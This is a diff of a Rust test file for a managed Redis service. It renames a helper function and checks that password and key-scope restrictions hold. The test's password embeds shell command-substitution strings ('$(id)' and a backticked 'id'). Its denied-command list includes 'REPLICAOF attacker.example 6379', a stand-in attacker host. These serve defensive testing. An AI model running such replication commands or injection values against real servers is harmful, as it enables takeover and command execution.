@@ -17,13 +17,13 @@ const UID: &str = "5f0c7f9e-8b0a-4b0e-9b62-0d5a3f1c2e4d";
 const PASSWORD: &str = r#"s3cret $(id) "it's" `id` \ #1"#;
 
 #[tokio::test]
-async fn a_managed_redis_serves_whoever_has_the_password_its_services_keys_and_nothing_else() {
+async fn a_managed_redis_allows_clients_with_the_password_only_the_keys_of_its_service() {
     let redis = Redis::start().await;
     for words in [&["PING"][..], &["GET", "{reckon:other}:key"]] {
-        let said = redis.say("", words);
+        let said = redis.send("", words);
         assert!(said.starts_with("NOAUTH"), "{words:?}: {said}");
     }
-    let said = redis.say("another password", &["PING"]);
+    let said = redis.send("another password", &["PING"]);
     assert!(said.contains("WRONGPASS"), "{said}");
 
     let ours = format!("{{reckon:{UID}}}:key");
@@ -33,7 +33,7 @@ async fn a_managed_redis_serves_whoever_has_the_password_its_services_keys_and_n
         (vec!["GET", &ours], "1"),
         (vec!["PUBLISH", &channel, "all"], "0"),
     ] {
-        assert_eq!(redis.say(PASSWORD, &words), answer, "{words:?}");
+        assert_eq!(redis.send(PASSWORD, &words), answer, "{words:?}");
     }
     let other = "{reckon:another}:key";
     let script = "return redis.call('GET', KEYS[1])";
@@ -52,7 +52,7 @@ async fn a_managed_redis_serves_whoever_has_the_password_its_services_keys_and_n
         vec!["MODULE", "LIST"],
         vec!["REPLICAOF", "attacker.example", "6379"],
     ] {
-        let said = redis.say(PASSWORD, &words);
+        let said = redis.send(PASSWORD, &words);
         assert!(said.starts_with("NOPERM"), "{words:?}: {said}");
     }
 }
@@ -107,7 +107,7 @@ impl Redis {
     }
 
     /// What the server answers to somebody with that password.
-    fn say(&self, password: &str, words: &[&str]) -> String {
+    fn send(&self, password: &str, words: &[&str]) -> String {
         let mut command = client("redis-cli", password);
         let output = command
             .args(["-p", &self.port.number().to_string()])
